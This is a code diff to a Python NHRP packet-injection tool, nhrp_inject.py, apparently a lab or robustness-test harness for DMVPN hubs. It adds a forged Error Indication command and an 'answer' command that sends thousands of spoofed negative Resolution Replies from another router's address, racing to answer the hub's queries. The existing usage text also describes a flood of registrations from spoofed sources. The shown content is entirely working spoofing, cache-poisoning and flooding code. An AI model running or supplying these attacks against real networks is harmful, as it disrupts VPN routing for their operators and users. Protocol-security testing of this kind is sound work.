@@ -21,6 +21,19 @@ address given.
       --src-proto 10.0.0.13 --dst-proto 10.0.0.11 [--ext-len N] [--auth S]
       A Resolution Request; prints "code N" of the Resolution Reply's CIE,
       or "no reply".
+  nhrp_inject.py error --to 192.0.2.11 --key 42 --src-nbma 192.0.2.14 \
+      --src-proto 10.0.0.14 [--code 7] [--auth SECRET]
+      An Error Indication about a Registration Request of the receiver's
+      (request ID 1), with no authentication unless --auth is given.
+  nhrp_inject.py answer --to 192.0.2.1 --key 42 --src-nbma 192.0.2.13 \
+      --src-proto 10.0.0.1 --dst-proto 10.0.0.11 --count 3000 \
+      [--spoof 192.0.2.11] [--repeat-secs S] [--auth SECRET]
+      Negative Resolution Replies (code 12, no binding) for dst-proto, with
+      request IDs 1 to COUNT: a claimant answering the hub's question to
+      the holder of a unique address ("gone") for it; --spoof sends them
+      from the holder's own NBMA address; --repeat-secs goes on sending
+      the series for S seconds, so that a question asked meanwhile is
+      answered before its holder can.
   nhrp_inject.py flood --to 192.0.2.1 --key 42 --src-nbma X --count 2000
       Registrations from COUNT spoofed outer sources 198.18.0.1 upwards,
       each for its own tunnel address 10.128.0.1 upwards.
@@ -107,6 +120,23 @@ def resolution(src_nbma, src_proto, dst_proto, reqid, auth=None,
     return nhrp_packet(1, 0, reqid, src_nbma, src_proto, dst_proto,
                        cies=[(0, 0xFF, 0)], exts=request_exts(auth, ext_len),
                        hopcnt=8)
+
+
+def error_indication(src_nbma, src_proto, code, bad, auth=None):
+    """Error Indication (type 7): code and offset where the request ID
+    is, then the packet in error; authentication only if asked."""
+    body = struct.pack("!BBHHH", 4, 4, 0, code, 0)
+    body += socket.inet_aton(src_nbma) + socket.inet_aton(src_proto)
+    body += socket.inet_aton(src_proto) + bad
+    extoff = 0
+    if auth:
+        extoff = 20 + len(body)
+        body += auth_ext(auth) + end_ext()
+    hdr = struct.pack("!HH5sBHHHBBBB", 1, 0x0800, b"\0" * 5, 64,
+                      20 + len(body), 0, extoff, 1, 7, 4, 0)
+    pkt = bytearray(hdr + body)
+    struct.pack_into("!H", pkt, 12, checksum(bytes(pkt)))
+    return bytes(pkt)
 
 
 def gre(payload, key, proto=NHRP_PROTO, flags=None):
@@ -251,6 +281,47 @@ def cmd_resolve(a):
     return 0
 
 
+def cmd_error(a):
+    s = open_sock()
+    bad = registration(a.to, a.dst_proto or "10.0.0.11", a.src_proto, 1)
+    pkt = error_indication(a.src_nbma, a.src_proto, a.code, bad, a.auth)
+    s.sendto(gre(pkt, a.key), (a.to, 0))
+    print("sent 1")
+    return 0
+
+
+def cmd_answer(a):
+    """Replies to a question the hub asked someone else."""
+    src = a.spoof or a.src_nbma
+    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    dst = socket.inet_aton(a.to)
+    exts = (auth_ext(a.auth) if a.auth else b"") + end_ext()
+    series = []
+    for reqid in range(1, a.count + 1):
+        # Resolution Reply: source = the hub (who asked), destination =
+        # the contested address; one CIE, code 12 (no binding).
+        pkt = nhrp_packet(2, 0, reqid, a.to, a.src_proto, a.dst_proto,
+                          cies=[(12, 32, 0)], exts=exts)
+        g = gre(pkt, a.key)
+        series.append(struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(g), 0,
+                                  0, 64, 47, 0, socket.inet_aton(src), dst) +
+                      g)
+    sent = 0
+    end = time.time() + a.repeat_secs
+    while True:
+        for data in series:
+            try:
+                raw.sendto(data, (a.to, 0))
+                sent += 1
+            except OSError:
+                pass
+        if time.time() >= end:
+            break
+        time.sleep(0.001)
+    print("sent %d" % sent)
+    return 0
+
+
 def cmd_purge(a):
     s = open_sock()
     reqid = random.randrange(1, 1 << 31)
@@ -314,8 +385,8 @@ def cmd_barrage(a):
 
 def main():
     ap = argparse.ArgumentParser()
-    ap.add_argument("cmd", choices=["register", "resolve", "purge", "flood",
-                                    "barrage"])
+    ap.add_argument("cmd", choices=["register", "resolve", "error", "answer",
+                                    "purge", "flood", "barrage"])
     ap.add_argument("--to", required=True)
     ap.add_argument("--key", type=int)
     ap.add_argument("--src-nbma", required=True)
@@ -326,10 +397,15 @@ def main():
     ap.add_argument("--seed", type=int, default=1)
     ap.add_argument("--wait-reply", action="store_true")
     ap.add_argument("--auth", help="Cisco cleartext NHRP password")
+    ap.add_argument("--spoof", help="outer source address to send from")
+    ap.add_argument("--repeat-secs", type=float, default=0)
+    ap.add_argument("--code", type=int, default=7,
+                    help="Error Indication code (7: protocol error)")
     ap.add_argument("--ext-len", type=int, default=0,
                     help="bytes of an unknown non-compulsory extension")
     a = ap.parse_args()
     return {"register": cmd_register, "resolve": cmd_resolve,
+            "error": cmd_error, "answer": cmd_answer,
             "purge": cmd_purge,
             "flood": cmd_flood, "barrage": cmd_barrage}[a.cmd](a)
 
